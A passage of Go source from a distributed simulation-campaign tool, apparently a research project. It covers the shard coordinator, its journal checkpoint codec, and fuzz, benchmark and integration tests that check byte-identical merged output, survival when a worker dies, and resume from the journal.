//     input — the invariant OpenJournal's torn-tail truncation rests on;
//   - re-decoding that re-encoded prefix is lossless;
//   - an error is always ErrJournalCorrupt (torn tails are not errors).
func FuzzDecodeShardJournal(f *testing.F) {
	f.Add([]byte(nil))
	f.Add([]byte(journalMagic))
	f.Add([]byte("NOPE"))
	f.Add([]byte(journalMagic + "\x00\x00\x00"))
	one, _ := AppendShardRecord([]byte(journalMagic), ShardRecord{
		Key: "deadbeef", Index: 1, OK: 3, Failed: 1, Body: []byte("{\"kind\":\"result\"}\n"),
	})
	f.Add(one)
	f.Add(one[:len(one)-5])                                          // torn tail
	f.Add(append(append([]byte(nil), one...), one[4:len(one)-3]...)) // second record torn
	flipped := append([]byte(nil), one...)
	flipped[len(flipped)-1] ^= 0x01 // corrupt digest
	f.Add(flipped)

	f.Fuzz(func(t *testing.T, data []byte) {
		recs, err := DecodeShardJournal(data)
		if err != nil {
			if !errors.Is(err, ErrJournalCorrupt) {
				t.Fatalf("decode error is not ErrJournalCorrupt: %v", err)
			}
			return
		}
		if len(recs) == 0 {
			return
		}
		reenc := []byte(journalMagic)
		for _, rec := range recs {
			var aerr error
			reenc, aerr = AppendShardRecord(reenc, rec)
			if aerr != nil {
				t.Fatalf("decoded record does not re-encode: %v (%+v)", aerr, rec)
			}
		}
		if len(reenc) > len(data) || !bytes.Equal(reenc, data[:len(reenc)]) {
			t.Fatalf("re-encoded records are not a prefix of the input:\nin  %x\nout %x", data, reenc)
		}
		recs2, err2 := DecodeShardJournal(reenc)
		if err2 != nil {
			t.Fatalf("re-encoded journal rejected: %v", err2)
		}
		if len(recs2) != len(recs) {
			t.Fatalf("round trip changed record count: %d vs %d", len(recs2), len(recs))
		}
		for i := range recs {
			if recs2[i].Key != recs[i].Key || recs2[i].Index != recs[i].Index ||
				recs2[i].OK != recs[i].OK || recs2[i].Failed != recs[i].Failed ||
				!bytes.Equal(recs2[i].Body, recs[i].Body) {
				t.Fatalf("round trip changed record %d:\ngot  %+v\nwant %+v", i, recs2[i], recs[i])
			}
		}
	})
}
