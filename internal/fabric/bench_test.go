package fabric

import (
	"bytes"
	"io"
	"testing"

	"injectable/internal/campaign"
	"injectable/internal/serve"
)

// BenchmarkShardPlanMerge measures the coordinator's deterministic core
// with the network removed: planning a sweep into shards, and merging
// pre-rendered shard streams (frame validation, ordered collation, frame
// re-emission) back into one campaign stream. This is the per-campaign
// overhead the fabric adds on top of the workers' own compute, so its
// allocation count is gated strictly.
func BenchmarkShardPlanMerge(b *testing.B) {
	reg := serve.DefaultRegistry()
	spec := serve.JobSpec{Experiment: "exp1", Trials: 2, SeedBase: 1000}

	b.Run("plan", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := PlanShards(reg, spec, 0); err != nil {
				b.Fatal(err)
			}
		}
	})

	b.Run("merge", func(b *testing.B) {
		p, err := PlanShards(reg, spec, 0)
		if err != nil {
			b.Fatal(err)
		}
		// Render each shard's stream once, the way a worker daemon would.
		streams := make([][]byte, len(p.Shards))
		for i, s := range p.Shards {
			cspec, err := reg.Build(s.Spec)
			if err != nil {
				b.Fatal(err)
			}
			var buf bytes.Buffer
			runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewNDJSON(&buf)}}
			if _, err := runner.Run(cspec); err != nil {
				b.Fatal(err)
			}
			streams[i] = buf.Bytes()
		}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			w := io.Discard
			if _, err := w.Write(campaign.NDJSONHeader(p.Name, p.SeedBase, p.Points, p.Trials)); err != nil {
				b.Fatal(err)
			}
			coll := campaign.NewCollator[[]byte](0)
			trials, ok, failed := 0, 0, 0
			// Reverse order so the collator's pending map does real work.
			for idx := len(streams) - 1; idx >= 0; idx-- {
				payload, o, f, err := splitShardStream(streams[idx], p.Shards[idx].Trials)
				if err != nil {
					b.Fatal(err)
				}
				ok += o
				failed += f
				trials += o + f
				for _, out := range coll.Add(idx, payload) {
					if _, err := w.Write(out); err != nil {
						b.Fatal(err)
					}
				}
			}
			if _, err := w.Write(campaign.NDJSONTrailer(trials, ok, failed)); err != nil {
				b.Fatal(err)
			}
		}
	})
}
