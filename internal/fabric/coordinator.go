package fabric

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"time"

	"injectable/internal/campaign"
	"injectable/internal/obs"
	"injectable/internal/serve"
)

// Config shapes a coordinator run. Workers is required; everything else
// has a documented default.
type Config struct {
	// Workers are the worker daemons' base URLs. At least one.
	Workers []string
	// HTTP is the shared transport (nil = http.DefaultClient).
	HTTP *http.Client
	// Retry is the per-request throttle policy each worker client uses
	// for 429/503 (zero value = no client-level retries; shard-level
	// redispatch still applies).
	Retry serve.Retry
	// MaxAttempts bounds how many times one shard is dispatched across
	// the fleet before the campaign fails (default 3).
	MaxAttempts int
	// WorkerFailures is how many consecutive failed shards a worker may
	// produce before the coordinator abandons it (default 3). Abandoning
	// dead workers is what turns "worker crashed mid-shard" into a
	// redispatch to the survivors instead of an infinite retry loop.
	WorkerFailures int
	// Journal, when non-nil, checkpoints every completed shard before it
	// is merged. Resume holds the records replayed from it: shards whose
	// keys match the plan are merged from the checkpoint and never
	// dispatched.
	Journal *Journal
	Resume  []ShardRecord
	// Hub receives fabric metrics and spans (nil disables them).
	Hub *obs.Hub
	// Log receives structured lifecycle events (nil = silent).
	Log *slog.Logger
	// Status, when non-nil, receives live per-shard and per-worker state
	// transitions; the Aggregator serves it as /v1/fleet.
	Status *Status
	// Format selects the merged output stream written to w:
	// serve.FormatNDJSON (the default, byte-identical to a single-process
	// NDJSON run) or serve.FormatBinary (byte-identical to a
	// single-process binary run). Shard streams always travel binary
	// between workers and coordinator regardless of this setting; it only
	// picks the final rendering.
	Format string
}

func (c Config) withDefaults() Config {
	if c.MaxAttempts <= 0 {
		c.MaxAttempts = 3
	}
	if c.WorkerFailures <= 0 {
		c.WorkerFailures = 3
	}
	return c
}

// Report summarizes a coordinator run.
type Report struct {
	// Shards is the plan size; Resumed of those came from the journal.
	Shards  int
	Resumed int
	// Dispatched counts shard dispatch attempts (including redispatches);
	// Retried counts just the redispatches. A fully resumed campaign
	// dispatches zero shards.
	Dispatched int
	Retried    int
	// WorkersLost counts workers abandoned after consecutive failures.
	WorkersLost int
	// Trials, OK and Failed are the merged stream's trailer tallies.
	Trials int
	OK     int
	Failed int
	// Bytes is the merged stream's total size.
	Bytes int64
}

// mergeWriter adapts the coordinator's byte-counting write closure to
// io.Writer for the streaming transcoder.
type mergeWriter func([]byte) error

func (f mergeWriter) Write(p []byte) (int, error) {
	if err := f(p); err != nil {
		return 0, err
	}
	return len(p), nil
}

// outcome is one shard dispatch attempt's result, or a worker obituary.
type outcome struct {
	shard      int
	payload    []byte
	ok, failed int
	err        error
	worker     string
	elapsed    time.Duration
	workerDead bool
}

// Run executes the plan across the fleet and writes the merged stream
// to w in cfg.Format (NDJSON by default). The merged bytes are identical
// to a single-process run of plan.Spec; on error (including ctx
// cancellation) the journal retains every shard that completed, so a
// rerun resumes instead of recomputing.
//
// Internally every shard travels as binary trial-record frames: workers
// answer /v1/run?format=binary (their cached slab, zero-copy on hits),
// the coordinator validates the frame walk and trailer tallies, journals
// the raw frames, and merges by concatenation — records are only decoded
// at the very edge, and only when the merged output is NDJSON.
func Run(ctx context.Context, cfg Config, plan *Plan, w io.Writer) (*Report, error) {
	cfg = cfg.withDefaults()
	if len(cfg.Workers) == 0 {
		return nil, fmt.Errorf("fabric: no workers configured")
	}
	binaryOut := false
	switch cfg.Format {
	case "", serve.FormatNDJSON:
	case serve.FormatBinary:
		binaryOut = true
	default:
		return nil, fmt.Errorf("fabric: unknown output format %q", cfg.Format)
	}
	reg := cfg.Hub.Reg()
	lg := obs.LoggerOr(cfg.Log)
	cfg.Status.beginPlan(plan, cfg.Workers)
	rep := &Report{Shards: len(plan.Shards)}
	lg.Info("campaign starting", "campaign", plan.Key, "shards", len(plan.Shards),
		"workers", len(cfg.Workers), "trials", plan.Trials)

	countWrite := func(p []byte) error {
		n, err := w.Write(p)
		rep.Bytes += int64(n)
		return err
	}
	header := campaign.NDJSONHeader(plan.Name, plan.SeedBase, plan.Points, plan.Trials)
	if binaryOut {
		header = campaign.BinaryHeader(plan.Name, plan.SeedBase, plan.Points, plan.Trials)
	}
	if err := countWrite(header); err != nil {
		return rep, fmt.Errorf("fabric: writing merged header: %w", err)
	}

	// Resume: shards whose canonical keys are already journaled merge
	// from the checkpoint and are never dispatched. Keys — not indexes —
	// decide identity, so a stale journal from a different spec is
	// harmlessly ignored.
	resumed := make(map[string]ShardRecord, len(cfg.Resume))
	for _, rec := range cfg.Resume {
		if _, dup := resumed[rec.Key]; !dup {
			resumed[rec.Key] = rec
		}
	}
	coll := campaign.NewCollator[[]byte](0)
	coll.OnRelease = func(ordinal int) {
		cfg.Hub.Spans().Add(obs.Mark(plan.Key, "merge", "shard", obs.SpanArg(ordinal)))
	}
	release := func(idx int, payload []byte) error {
		for _, p := range coll.Add(idx, payload) {
			if binaryOut {
				if err := countWrite(p); err != nil {
					return fmt.Errorf("fabric: writing merged payload: %w", err)
				}
				continue
			}
			if err := campaign.TranscodeResultFrames(mergeWriter(countWrite), p); err != nil {
				return fmt.Errorf("fabric: rendering merged payload: %w", err)
			}
		}
		return nil
	}

	var todo []int
	for _, s := range plan.Shards {
		if rec, ok := resumed[s.Key]; ok {
			body, err := normalizeShardBody(rec.Body)
			if err != nil {
				return rep, err
			}
			rep.Resumed++
			rep.OK += rec.OK
			rep.Failed += rec.Failed
			reg.Counter("fabric.shards_resumed").Inc()
			cfg.Status.shardPhase(s.Index, ShardResumed, "")
			if err := release(s.Index, body); err != nil {
				return rep, err
			}
			continue
		}
		todo = append(todo, s.Index)
	}
	reg.Gauge("fabric.shards_planned").Set(float64(len(plan.Shards)))

	if len(todo) > 0 {
		if err := dispatch(ctx, cfg, plan, todo, rep, release); err != nil {
			cfg.Status.finish(err)
			return rep, err
		}
	}

	rep.Trials = rep.OK + rep.Failed
	trailer := campaign.NDJSONTrailer(rep.Trials, rep.OK, rep.Failed)
	if binaryOut {
		trailer = campaign.BinaryTrailer(rep.Trials, rep.OK, rep.Failed)
	}
	if err := countWrite(trailer); err != nil {
		cfg.Status.finish(err)
		return rep, fmt.Errorf("fabric: writing merged trailer: %w", err)
	}
	reg.Counter("fabric.campaigns_merged").Inc()
	cfg.Status.finish(nil)
	lg.Info("campaign merged", "campaign", plan.Key, "bytes", rep.Bytes,
		"trials", rep.Trials, "ok", rep.OK, "failed", rep.Failed,
		"dispatched", rep.Dispatched, "retried", rep.Retried, "resumed", rep.Resumed)
	return rep, nil
}

// dispatch fans the remaining shards over the worker fleet and feeds
// completed payloads to release in shard order.
func dispatch(ctx context.Context, cfg Config, plan *Plan, todo []int, rep *Report, release func(int, []byte) error) error {
	reg := cfg.Hub.Reg()
	lg := obs.LoggerOr(cfg.Log)
	// Workers run under a child context so an aborted dispatch (shard
	// exhausted its attempts, write error) stops their in-flight requests
	// instead of letting them run to completion unobserved.
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	// Buffered so no worker goroutine ever blocks sending: each of the
	// len(todo) shards is dispatched at most MaxAttempts times, plus one
	// obituary per worker.
	queue := make(chan int, len(todo)*cfg.MaxAttempts)
	outcomes := make(chan outcome, len(todo)*cfg.MaxAttempts+len(cfg.Workers))
	for _, idx := range todo {
		queue <- idx
	}
	// The queue is closed exactly once, after the accounting loop has
	// stopped re-enqueueing; workers drain and exit.
	queueDone := make(chan struct{})
	defer close(queueDone)
	go func() {
		<-queueDone
		close(queue)
	}()

	for _, base := range cfg.Workers {
		go workerLoop(ctx, cfg, plan, base, queue, outcomes)
	}

	attempts := make(map[int]int, len(todo))
	remaining := len(todo)
	live := len(cfg.Workers)
	latency := reg.Histogram("fabric.shard_latency_ms", obs.LatencyBucketsMS())
	for remaining > 0 {
		if live == 0 {
			return fmt.Errorf("fabric: all %d workers lost with %d shards incomplete (journal retains the %d finished)",
				len(cfg.Workers), remaining, len(plan.Shards)-remaining)
		}
		var o outcome
		select {
		case <-ctx.Done():
			return fmt.Errorf("fabric: %w with %d shards incomplete (journal retains the finished)", ctx.Err(), remaining)
		case o = <-outcomes:
		}
		if o.workerDead {
			live--
			rep.WorkersLost++
			reg.Counter("fabric.workers_lost").Inc()
			cfg.Status.workerLost(o.worker)
			cfg.Hub.Spans().Add(obs.Mark(plan.Key, "worker-lost", "worker", o.worker))
			lg.Warn("worker lost", "campaign", plan.Key, "worker", o.worker, "live", live)
			continue
		}
		rep.Dispatched++
		reg.Counter("fabric.shards_dispatched").Inc()
		if o.err != nil {
			reg.Counter("fabric.shard_errors").Inc()
			attempts[o.shard]++
			if attempts[o.shard] >= cfg.MaxAttempts {
				return fmt.Errorf("fabric: shard %d (%s) failed %d times, last on %s: %w",
					o.shard, plan.Shards[o.shard].Key, attempts[o.shard], o.worker, o.err)
			}
			rep.Retried++
			reg.Counter("fabric.shards_retried").Inc()
			cfg.Status.shardPhase(o.shard, ShardRetrying, o.worker)
			cfg.Hub.Spans().Add(obs.Mark(plan.Key, "redispatch",
				"shard", obs.SpanArg(o.shard), "worker", o.worker))
			lg.Warn("shard redispatched", "campaign", plan.Key, "shard", o.shard,
				"worker", o.worker, "attempt", attempts[o.shard], "err", o.err)
			queue <- o.shard
			continue
		}
		latency.Observe(float64(o.elapsed.Milliseconds()))
		reg.Counter("fabric.shards_completed").Inc()
		cfg.Status.shardPhase(o.shard, ShardDone, o.worker)
		lg.Debug("shard completed", "campaign", plan.Key, "shard", o.shard,
			"worker", o.worker, "ms", o.elapsed.Milliseconds(), "ok", o.ok, "failed", o.failed)
		if cfg.Journal != nil {
			rec := ShardRecord{
				Key:    plan.Shards[o.shard].Key,
				Index:  o.shard,
				OK:     o.ok,
				Failed: o.failed,
				Body:   o.payload,
			}
			if err := cfg.Journal.Append(rec); err != nil {
				return err
			}
		}
		rep.OK += o.ok
		rep.Failed += o.failed
		remaining--
		if err := release(o.shard, o.payload); err != nil {
			return err
		}
	}
	return nil
}

// workerLoop drains shards for one worker daemon until the queue closes
// or the worker proves dead (WorkerFailures consecutive errors), then
// reports its obituary.
func workerLoop(ctx context.Context, cfg Config, plan *Plan, base string, queue <-chan int, outcomes chan<- outcome) {
	// Trace propagation: every shard submission carries the campaign's
	// canonical hash, so worker-side queue/run spans join the fleet trace.
	client := &serve.Client{Base: base, HTTP: cfg.HTTP, Retry: cfg.Retry, Trace: plan.Key}
	spans := cfg.Hub.Spans()
	consecutive := 0
	for idx := range queue {
		shard := plan.Shards[idx]
		cfg.Status.shardPhase(idx, ShardRunning, base)
		start := time.Now()
		o := outcome{shard: idx, worker: base}
		res, err := client.RunBinary(ctx, shard.Spec)
		spans.Add(obs.NewSpan(plan.Key, "dispatch", start,
			"shard", obs.SpanArg(idx), "worker", base))
		if err == nil {
			spans.Add(obs.Mark(plan.Key, "stream",
				"shard", obs.SpanArg(idx), "worker", base, "bytes", obs.SpanArg(len(res.Body))))
			vstart := time.Now()
			o.payload, o.ok, o.failed, err = splitBinaryShard(res.Body, shard.Trials)
			spans.Add(obs.NewSpan(plan.Key, "validate", vstart,
				"shard", obs.SpanArg(idx), "worker", base))
		}
		o.err = err
		o.elapsed = time.Since(start)
		outcomes <- o
		if err != nil {
			consecutive++
			if consecutive >= cfg.WorkerFailures || ctx.Err() != nil {
				outcomes <- outcome{worker: base, workerDead: true}
				return
			}
			continue
		}
		consecutive = 0
	}
}
