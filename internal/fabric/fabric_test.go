package fabric

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"sync/atomic"
	"testing"

	"injectable/internal/campaign"
	"injectable/internal/obs"
	"injectable/internal/serve"
)

// refSpec is the campaign every fabric test shards: the Fig. 9 exp1 hop
// interval sweep (6 points) at 2 trials per point — small enough to run
// repeatedly, wide enough to shard 6 ways.
func refSpec() serve.JobSpec {
	return serve.JobSpec{Experiment: "exp1", Trials: 2, SeedBase: 1000}
}

// serialStream renders the reference stream the way a single process
// (cmd/experiments -ndjson, or one daemon job) would.
func serialStream(t *testing.T) []byte {
	t.Helper()
	cspec, err := serve.DefaultRegistry().Build(refSpec())
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewNDJSON(&buf)}}
	if _, err := runner.Run(cspec); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// startWorkers boots n in-process worker daemons and returns their base
// URLs.
func startWorkers(t *testing.T, n int) []string {
	t.Helper()
	urls := make([]string, n)
	for i := range urls {
		srv := serve.NewServer(serve.Config{QueueCap: 32, JobWorkers: 1, TrialWorkers: 2})
		hs := httptest.NewServer(srv.Handler())
		t.Cleanup(hs.Close)
		t.Cleanup(srv.Close)
		urls[i] = hs.URL
	}
	return urls
}

func plan(t *testing.T, maxShards int) *Plan {
	t.Helper()
	p, err := PlanShards(serve.DefaultRegistry(), refSpec(), maxShards)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestPlanShards pins the planner's arithmetic and key canonicalization.
func TestPlanShards(t *testing.T) {
	p := plan(t, 0)
	if len(p.Shards) != 6 || p.Points != 6 || p.Trials != 12 {
		t.Fatalf("one-per-point plan: %d shards, %d points, %d trials", len(p.Shards), p.Points, p.Trials)
	}
	keys := map[string]bool{}
	covered := 0
	for i, s := range p.Shards {
		if s.Index != i {
			t.Fatalf("shard %d carries index %d", i, s.Index)
		}
		if keys[s.Key] {
			t.Fatalf("duplicate shard key %s", s.Key)
		}
		keys[s.Key] = true
		covered += s.Points
	}
	if covered != p.Points {
		t.Fatalf("shards cover %d points, plan has %d", covered, p.Points)
	}

	p4 := plan(t, 4)
	if len(p4.Shards) != 4 {
		t.Fatalf("maxShards=4 plan has %d shards", len(p4.Shards))
	}
	sizes := []int{p4.Shards[0].Points, p4.Shards[1].Points, p4.Shards[2].Points, p4.Shards[3].Points}
	for _, sz := range sizes {
		if sz != 1 && sz != 2 {
			t.Fatalf("uneven shard sizes %v", sizes)
		}
	}

	// A single shard IS the full campaign: same key, so a worker that
	// served the unsharded spec replays it from cache.
	p1 := plan(t, 1)
	if len(p1.Shards) != 1 || p1.Shards[0].Key != p1.Key {
		t.Fatalf("single-shard plan key %s != campaign key %s", p1.Shards[0].Key, p1.Key)
	}

	if _, err := PlanShards(serve.DefaultRegistry(), serve.JobSpec{Experiment: "exp1", PointStart: 1}, 0); err == nil {
		t.Fatal("planning a spec that already carries a point range succeeded")
	}
}

// TestFabricByteIdentical is the core determinism claim: coordinator + N
// workers produce NDJSON byte-identical to a serial single-process run,
// at worker counts 1, 2 and 4.
func TestFabricByteIdentical(t *testing.T) {
	want := serialStream(t)
	for _, workers := range []int{1, 2, 4} {
		hub := obs.NewHub()
		var merged bytes.Buffer
		rep, err := Run(context.Background(), Config{
			Workers: startWorkers(t, workers),
			Hub:     hub,
		}, plan(t, 0), &merged)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		if !bytes.Equal(merged.Bytes(), want) {
			t.Fatalf("workers=%d: merged stream differs from serial run\nmerged:\n%s\nserial:\n%s",
				workers, merged.Bytes(), want)
		}
		if rep.Dispatched != 6 || rep.Resumed != 0 || rep.Trials != 12 {
			t.Fatalf("workers=%d: report %+v", workers, rep)
		}
		if got := hub.Reg().Counter("fabric.shards_dispatched").Value(); got != 6 {
			t.Fatalf("workers=%d: dispatched counter %d, want 6", workers, got)
		}
	}
}

// flakyWorker wraps a healthy worker handler and kills the connection of
// the first `kills` requests — a worker crashing mid-shard from the
// coordinator's point of view.
func flakyWorker(t *testing.T, kills int) string {
	t.Helper()
	srv := serve.NewServer(serve.Config{QueueCap: 32, JobWorkers: 1, TrialWorkers: 2})
	t.Cleanup(srv.Close)
	var n atomic.Int64
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if int(n.Add(1)) <= kills {
			hj, ok := w.(http.Hijacker)
			if !ok {
				t.Fatal("test server does not support hijacking")
			}
			conn, _, err := hj.Hijack()
			if err != nil {
				t.Fatal(err)
			}
			conn.Close() // mid-request connection drop
			return
		}
		srv.Handler().ServeHTTP(w, r)
	}))
	t.Cleanup(hs.Close)
	return hs.URL
}

// TestFabricSurvivesWorkerDeath kills one worker's connections mid-shard;
// the coordinator must redispatch to the survivor and still merge a
// byte-identical stream.
func TestFabricSurvivesWorkerDeath(t *testing.T) {
	want := serialStream(t)
	hub := obs.NewHub()
	healthy := startWorkers(t, 1)
	dying := flakyWorker(t, 1000) // never recovers
	var merged bytes.Buffer
	rep, err := Run(context.Background(), Config{
		Workers:        []string{dying, healthy[0]},
		Hub:            hub,
		WorkerFailures: 2,
	}, plan(t, 0), &merged)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(merged.Bytes(), want) {
		t.Fatal("merged stream with a dying worker differs from serial run")
	}
	if rep.WorkersLost != 1 {
		t.Fatalf("report counts %d lost workers, want 1: %+v", rep.WorkersLost, rep)
	}
	if rep.Retried == 0 {
		t.Fatalf("dying worker produced no redispatches: %+v", rep)
	}
	if got := hub.Reg().Counter("fabric.workers_lost").Value(); got != 1 {
		t.Fatalf("workers_lost counter %d, want 1", got)
	}
}

// TestFabricAllWorkersLost: when every worker is dead the run must fail
// with a resumable journal rather than hang.
func TestFabricAllWorkersLost(t *testing.T) {
	var merged bytes.Buffer
	_, err := Run(context.Background(), Config{
		Workers:        []string{flakyWorker(t, 1000)},
		WorkerFailures: 2,
	}, plan(t, 0), &merged)
	if err == nil {
		t.Fatal("run with only a dead worker succeeded")
	}
}

// TestFabricResume kills the coordinator (via context) mid-campaign, then
// reruns against the same journal: the completed shards must replay from
// the checkpoint — zero dispatches for them, asserted on the obs counters
// — and the final stream must still be byte-identical to the serial run.
func TestFabricResume(t *testing.T) {
	want := serialStream(t)
	workers := startWorkers(t, 2)
	journalPath := filepath.Join(t.TempDir(), "shards.journal")

	// Phase 1: crash the coordinator after the first journaled shard by
	// failing the merged-stream writer on its first payload write. The
	// header write (write #1) succeeds; shards journal before they
	// release, so by the time the writer dies at least one shard is
	// checkpointed and the rest are not yet all merged.
	j1, recs, err := OpenJournal(journalPath)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 0 {
		t.Fatal("fresh journal not empty")
	}
	hub1 := obs.NewHub()
	writes := 0
	_, err = Run(context.Background(), Config{
		Workers: workers,
		Journal: j1,
		Hub:     hub1,
	}, plan(t, 0), writerFunc(func(p []byte) (int, error) {
		writes++
		if writes > 1 {
			return 0, errors.New("coordinator crashed")
		}
		return len(p), nil
	}))
	j1.Close()
	if err == nil {
		t.Fatal("crashed run reported success")
	}

	// Phase 2: resume. Journaled shards replay; only the remainder is
	// dispatched.
	j2, recs, err := OpenJournal(journalPath)
	if err != nil {
		t.Fatal(err)
	}
	done := len(recs)
	if done == 0 {
		t.Fatal("phase 1 journaled no shards")
	}
	hub2 := obs.NewHub()
	var merged bytes.Buffer
	rep, err := Run(context.Background(), Config{
		Workers: workers,
		Journal: j2,
		Resume:  recs,
		Hub:     hub2,
	}, plan(t, 0), &merged)
	j2.Close()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(merged.Bytes(), want) {
		t.Fatal("resumed stream differs from serial run")
	}
	if rep.Resumed != done {
		t.Fatalf("report resumed %d shards, journal held %d", rep.Resumed, done)
	}
	if got := hub2.Reg().Counter("fabric.shards_resumed").Value(); got != int64(done) {
		t.Fatalf("shards_resumed counter %d, want %d", got, done)
	}
	if got := hub2.Reg().Counter("fabric.shards_dispatched").Value(); got != int64(6-done) {
		t.Fatalf("shards_dispatched counter %d, want %d (journaled shards must not recompute)", got, 6-done)
	}

	// Phase 3: resume again with everything journaled — zero dispatches.
	j3, recs, err := OpenJournal(journalPath)
	if err != nil {
		t.Fatal(err)
	}
	defer j3.Close()
	if len(recs) != 6 {
		t.Fatalf("journal holds %d shards after a completed run, want 6", len(recs))
	}
	hub3 := obs.NewHub()
	var replay bytes.Buffer
	rep3, err := Run(context.Background(), Config{
		Workers: []string{"http://127.0.0.1:1"}, // unreachable: resume must not need the fleet
		Journal: j3,
		Resume:  recs,
		Hub:     hub3,
	}, plan(t, 0), &replay)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(replay.Bytes(), want) {
		t.Fatal("fully resumed stream differs from serial run")
	}
	if rep3.Dispatched != 0 || rep3.Resumed != 6 {
		t.Fatalf("full resume report %+v, want 0 dispatched / 6 resumed", rep3)
	}
	if got := hub3.Reg().Counter("fabric.shards_dispatched").Value(); got != 0 {
		t.Fatalf("full resume dispatched %d shards", got)
	}
}

// writerFunc adapts a function into an io.Writer.
type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

// TestSplitShardStream pins the frame validation the merge rests on.
func TestSplitShardStream(t *testing.T) {
	stream := []byte(`{"kind":"campaign","campaign":"x","seed_base":1,"points":1,"trials":2}` + "\n" +
		`{"kind":"result","point":"a","trial":0,"seed":1,"ok":true}` + "\n" +
		`{"kind":"result","point":"a","trial":1,"seed":2,"ok":false,"err":"boom"}` + "\n" +
		`{"kind":"end","trials":2,"ok":1,"failed":1}` + "\n")
	payload, ok, failed, err := splitShardStream(stream, 2)
	if err != nil {
		t.Fatal(err)
	}
	if ok != 1 || failed != 1 {
		t.Fatalf("tallies %d/%d, want 1/1", ok, failed)
	}
	if !bytes.HasPrefix(payload, []byte(`{"kind":"result"`)) || !bytes.HasSuffix(payload, []byte("\"boom\"}\n")) {
		t.Fatalf("payload mis-trimmed: %q", payload)
	}
	if _, _, _, err := splitShardStream(stream, 3); err == nil {
		t.Fatal("trial-count mismatch accepted (cancelled shard would merge short)")
	}
	if _, _, _, err := splitShardStream(stream[:len(stream)-2], 2); err == nil {
		t.Fatal("torn stream accepted")
	}
	if _, _, _, err := splitShardStream([]byte("{}\n"), 0); err == nil {
		t.Fatal("frameless stream accepted")
	}
}

// TestFabricScenarioByteIdentical: a declarative scenario sweep shards
// across workers exactly like a catalog sweep — the coordinator plans by
// point range over the compiled expansion, and the merged stream is
// byte-identical to a serial single-process run of the same spec.
func TestFabricScenarioByteIdentical(t *testing.T) {
	raw := []byte(`{
		"version": 1,
		"name": "fabric-dsl",
		"run": {"sim_seconds": 20},
		"sweep": [{"field": "conn.interval", "values": [30, 45, 60]}]
	}`)
	spec, err := serve.ScenarioJobSpec(raw, serve.JobSpec{Trials: 2, SeedBase: 700})
	if err != nil {
		t.Fatal(err)
	}

	cspec, err := serve.DefaultRegistry().Build(spec)
	if err != nil {
		t.Fatal(err)
	}
	var serial bytes.Buffer
	runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewNDJSON(&serial)}}
	if _, err := runner.Run(cspec); err != nil {
		t.Fatal(err)
	}

	p, err := PlanShards(serve.DefaultRegistry(), spec, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Shards) != 3 || p.Points != 3 || p.Trials != 6 {
		t.Fatalf("plan: %d shards, %d points, %d trials", len(p.Shards), p.Points, p.Trials)
	}

	var merged bytes.Buffer
	rep, err := Run(context.Background(), Config{
		Workers: startWorkers(t, 2),
		Hub:     obs.NewHub(),
	}, p, &merged)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(merged.Bytes(), serial.Bytes()) {
		t.Fatalf("merged scenario stream differs from serial run\nmerged:\n%s\nserial:\n%s",
			merged.Bytes(), serial.Bytes())
	}
	if rep.Dispatched != 3 || rep.Trials != 6 {
		t.Fatalf("report %+v", rep)
	}
}
