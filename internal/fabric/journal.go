package fabric

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
)

// The shard journal is an append-only checkpoint of completed shards: a
// 4-byte magic followed by length-prefixed records. Each record carries
// the shard's canonical key, its plan index, its trailer tallies and its
// trimmed result payload, sealed with a truncated SHA-256 of the payload.
// The framing is deliberately in the repo's hand-rolled bit-exact codec
// style: a coordinator must be able to trust a checkpoint written by any
// build on any node.
//
// Crash tolerance is asymmetric by design: a torn final record — the
// coordinator died mid-append — is silently dropped (that shard simply
// recomputes), while any corruption inside the framed region (bad digest,
// inconsistent lengths) is an error: a checkpoint that lies must not be
// resumed from.
//
// Record layout after the u32 little-endian frame length (which covers
// everything below):
//
//	u16 keyLen | key | u32 index | u32 ok | u32 failed |
//	u32 bodyLen | body | 8-byte truncated SHA-256(body)
const (
	journalMagic   = "IFJ1"
	journalMaxKey  = 128
	journalDigest  = 8
	journalMinRec  = 2 + 4 + 4 + 4 + 4 + journalDigest // empty key, empty body
	journalMaxBody = 1 << 30
)

// ShardRecord is one journaled shard completion.
type ShardRecord struct {
	// Key is the shard's canonical spec hash (shard key).
	Key string
	// Index is the shard's position in its plan.
	Index int
	// OK and Failed are the shard stream's trailer tallies.
	OK     int
	Failed int
	// Body is the shard's trimmed payload with the per-shard header and
	// trailer frames removed: raw binary result frames in current
	// journals, NDJSON result lines in journals written before the
	// binary codec (normalizeShardBody upgrades those on resume).
	Body []byte
}

// bodyDigest seals a record's payload.
func bodyDigest(body []byte) [journalDigest]byte {
	sum := sha256.Sum256(body)
	var d [journalDigest]byte
	copy(d[:], sum[:journalDigest])
	return d
}

// AppendShardRecord encodes rec onto buf and returns the extended slice.
func AppendShardRecord(buf []byte, rec ShardRecord) ([]byte, error) {
	if len(rec.Key) > journalMaxKey {
		return nil, fmt.Errorf("fabric: journal key %d bytes exceeds %d", len(rec.Key), journalMaxKey)
	}
	if rec.Index < 0 || rec.OK < 0 || rec.Failed < 0 {
		return nil, fmt.Errorf("fabric: journal record with negative fields (index %d, ok %d, failed %d)",
